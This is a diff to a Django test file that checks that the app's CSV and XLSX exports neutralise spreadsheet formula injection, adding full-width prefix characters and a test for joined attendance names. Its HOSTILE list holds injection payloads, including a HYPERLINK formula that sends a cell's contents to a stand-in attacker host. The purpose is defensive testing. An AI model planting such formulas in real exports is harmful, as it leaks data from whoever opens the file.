@@ -1,9 +1,10 @@
 """Every CSV and XLSX the app writes neutralises cells a spreadsheet would run (QUALITY.md S9).
 
-Cells that begin with `=`, `+`, `-`, `@`, tab or carriage return get a leading apostrophe. The exports
-are the meeting minutes (CSV), every dashboard table (CSV and XLSX, school and district) and the
-district export's CSV files; a new module that writes CSV or a workbook fails
-`test_the_exports_tested_here_are_all_the_app_has`.
+Cells that begin with `=`, `+`, `-`, `@`, tab or carriage return, or with the full-width forms of the
+first four (U+FF1D, U+FF0B, U+FF0D, U+FF20, which spreadsheets in some locales read as the same), get a
+leading apostrophe. The exports are the meeting minutes (CSV), every dashboard table (CSV and XLSX,
+school and district) and the district export's CSV files; a new module that writes CSV or a workbook
+fails `test_the_exports_tested_here_are_all_the_app_has`.
 """
 
 from __future__ import annotations
@@ -21,8 +22,19 @@ from tests.conftest import Side
 from tests.data_reviews.score_factories import TierSnapshotFactory
 from tests.meetings.factories import make_meeting
 
-DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
-HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "\r=1"]
+DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tx",
+    "\r=1",
+    '\uff1dHYPERLINK("http://evil.example/")',
+    "\uff0b1+1",
+    "\uff0d2+3",
+    "\uff20SUM(A1:A9)",
+]
 ROOT = Path(__file__).resolve().parent.parent
 # The district export's CSV files are checked in tests/coordinators/test_district_lifecycle.py.
 EXPORT_MODULES = {"meetings/exports.py", "data_reviews/scores/exports.py", "coordinators/district_export.py"}
@@ -111,3 +123,18 @@ def test_every_dashboard_table_export_neutralises_hostile_names(place, kind, hos
         seen_hostile += sum(1 for c in cells if isinstance(c, str) and c.startswith("'") and c[1:] in HOSTILE)
         assert '"' not in response["Content-Disposition"].split("filename=")[1].strip('"')
     assert seen_hostile, "the hostile school name or student group should appear in some table"
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("hostile", HOSTILE)
+def test_joined_attendance_and_guest_names_are_neutralised(hostile: str, side_a: Side, coordinator_a):
+    """The attendance cell joins names and statuses: the joined cell is what gets checked."""
+    meeting = make_meeting(side_a.district, side_a.coordinator, kind="executive")
+    meeting.attendance.all().delete()
+    meeting_services.attendance_record(meeting=meeting, statuses={}, guests=[hostile], by=side_a.coordinator)
+    response = coordinator_a.get(reverse("meeting_export", args=[meeting.pk]))
+    cells = _csv_cells(response.content)
+    attendance = cells[cells.index("Attendance") + 1]
+    assert attendance.endswith("(Present)")
+    assert attendance.startswith("'") is hostile.strip().startswith(DANGEROUS), attendance
+    assert not _unsafe(cells)
